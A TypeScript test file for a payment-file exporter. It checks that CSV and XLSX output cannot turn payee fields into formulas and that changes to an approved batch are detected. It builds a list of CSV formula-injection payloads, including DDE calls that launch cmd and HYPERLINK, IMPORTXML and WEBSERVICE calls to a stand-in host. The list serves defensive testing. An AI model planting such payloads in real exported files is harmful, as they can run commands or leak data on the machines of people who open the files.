import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { read, utils } from "@e965/xlsx";
import { afterAll, describe, expect, it } from "vitest";
import { paymentFileAt } from "../../../worker/local/payment-file-reading.ts";
import { guardedText } from "../../../worker/payment-file/csv.ts";
import { paymentCsv } from "../../../worker/payment-file/payment-csv.ts";
import { type PaymentFile, paymentJson } from "../../../worker/payment-file/payment-file.ts";
import { paymentWorkbook } from "../../../worker/payment-file/payment-workbook.ts";
import { paymentFileFault } from "../../../worker/verify-payment-file.ts";
import { approvedFile } from "./an-approved-batch.ts";

const folder = mkdtempSync(join(tmpdir(), "payment-file-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const starts = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "　=", "\u200b=", "\ufeff=", "﹣"],
  ...["a;=", "a,=", "a|=", "a\n=", "a\r\n+", "a\t=", " -", '"=', "'\n=", "_x003D_="],
];
const tails = [
  ...["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://e.invalid/?x="&A1,"点击")', "SUM(A1:A9)", "10+20", "A1"],
  ...['IMPORTXML("http://e.invalid","//a")', 'WEBSERVICE("http://e.invalid")', 'DDE("cmd";"/C calc";"x")', "1E5"],
  ...["TODAY()", "_x0041_"],
];
const hostile = starts.flatMap((start) => tails.map((tail) => start + tail));
const legitimate = [
  ...["北京甲乙（集团）有限公司", "A-B 公司", "O'Neil & Söhne", "京兴人社发〔2025〕88号", "3-5项", "a=b", "x@y.cn"],
  ...['“引号”"双"引号', "<b>&amp;", "甲，乙；丙", "_x0041_z", "𠮷野家"],
];

/** Rows of a CSV by RFC 4180, read here so that the writer's own mistakes are not read back as right. */
function csvRows(text: string): string[][] {
  const rows: string[][] = [[""]];
  let isQuoted = false;
  for (let at = 1; at < text.length; at += 1) {
    const letter = text[at] ?? "";
    const row = rows.at(-1) ?? [];
    const last = row.length - 1;
    if (isQuoted && letter === '"' && text[at + 1] === '"') row[last] += text[++at] ?? "";
    else if (letter === '"') isQuoted = !isQuoted;
    else if (!isQuoted && letter === ",") row.push("");
    else if (!isQuoted && letter === "\r" && text[at + 1] === "\n") {
      rows.push([""]);
      at += 1;
    } else row[last] += letter;
  }
  return rows.filter((row) => row.length > 1);
}

describe("text that would be a formula", () => {
  it(`${hostile.length} hostile strings: no field of the CSV begins like a formula, or breaks its line`, async () => {
    const { file } = await approvedFile(
      hostile.map((text) => ({ payeeName: text, bank: text, studioName: text, document: text })),
    );
    const text = paymentCsv(file);
    expect(text.startsWith("\ufeff")).toBe(true);
    const rows = csvRows(text);
    expect(rows).toHaveLength(hostile.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(14);
      for (const field of row) expect(field).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠﹣]|[\r\n\t]|[;,|]\s*[=+\-@＝＋－＠]/u);
    }
  });

  it("the same in .xlsx: every one is text, none a formula, and it reads as it was", async () => {
    const { file } = await approvedFile(hostile.map((text) => ({ payeeName: text })));
    const sheet = read(paymentWorkbook(file), { type: "array", cellFormula: true }).Sheets["拨付明细"] ?? {};
    const cells = Object.entries(sheet).filter(([address]) => /^B\d+$/.test(address));
    for (const [address, cell] of Object.entries(sheet)) {
      if (!address.startsWith("!")) expect(cell).not.toHaveProperty("f");
    }
    const shown = cells.map(([, cell]) => cell.v).slice(1, hostile.length + 1);
    expect(shown).toEqual(hostile.map((text) => text.replace(/\r\n?/g, "\n")));
  });

  it("no legitimate value is damaged, and figures stay figures", async () => {
    for (const text of legitimate) expect(guardedText(text)).toBe(text);
    const { file } = await approvedFile(legitimate.map((payeeName) => ({ payeeName, account: "6222020000123456789" })));
    const rows = csvRows(paymentCsv(file)).slice(1);
    expect(rows.map((row) => row[2])).toEqual(legitimate);
    expect(rows.map((row) => row[3])).toEqual(legitimate.map(() => "'6222020000123456789"));
    expect(rows[0]?.[6]).toBe("100000.00");
    const sheet = read(paymentWorkbook(file), { type: "array" }).Sheets["拨付明细"] ?? {};
    const cells = utils.sheet_to_json<unknown[]>(sheet, { header: 1 });
    expect(cells[3]).toEqual(expect.arrayContaining(["6222020000123456789", "402100000018", 100_000, "壹拾万元整"]));
  });
});

describe("what a payment file proves without a server", () => {
  const written = async (file: PaymentFile, format: "xlsx" | "csv" | "json") => {
    const path = join(folder, `file.${format}`);
    const text = { csv: paymentCsv, json: paymentJson };
    writeFileSync(path, format === "xlsx" ? paymentWorkbook(file) : text[format](file));
    const found = await paymentFileAt(path);
    if (found === null) throw new Error(`Nothing found in ${format}.`);
    return found;
  };

  it.each(["xlsx", "csv", "json"] as const)(
    ".%s: every payment as approved, and any change of one is found",
    async (format) => {
      const { file } = await approvedFile([{}, { payeeName: "=1+1" }, {}, { bank: "-5" }]);
      const found = await written(file, format);
      const covered = found.covered ?? file.hashed;
      expect(found.checkpoint).toEqual(file.checkpoint);
      expect(await paymentFileFault(found, covered)).toBeNull();
      const changes: readonly Partial<PaymentFile["lines"][number]>[] = [
        { payeeName: "北京丙丁有限公司" },
        { account: "6222029999999999999" },
        { bank: "别的银行" },
        { bankCode: "402100000019" },
        { amountInCapitals: "贰拾万元整" },
        { document: "京兴人社发〔2025〕89号" },
      ];
      for (const change of changes) {
        const lines = file.lines.map((line, at) => (at === 2 ? { ...line, ...change } : line));
        expect(await paymentFileFault(await written({ ...file, lines }, format), covered)).toBe(3);
      }
      const fewer = await written({ ...file, lines: file.lines.slice(0, 3) }, format);
      expect(await paymentFileFault(fewer, covered)).toBe(4);
      expect(await paymentFileFault(found, covered.replace("10000000", "10000001"))).toBe("hash");
    },
  );

  it.each(["xlsx", "csv", "json"] as const)(
    ".%s: an account is as approved, whatever its proof begins with",
    async (format) => {
      const { file } = await approvedFile(Array.from({ length: 256 }, () => ({})));
      expect(new Set(file.lines.map(({ accountProof }) => accountProof[0])).size).toBe(64);
      expect(await paymentFileFault(await written(file, format), file.hashed)).toBeNull();
    },
  );

  it("equal batches make equal bytes", async () => {
    const { file } = await approvedFile([{}, {}, {}]);
    expect(paymentWorkbook(file)).toEqual(paymentWorkbook(structuredClone(file)));
  });
});
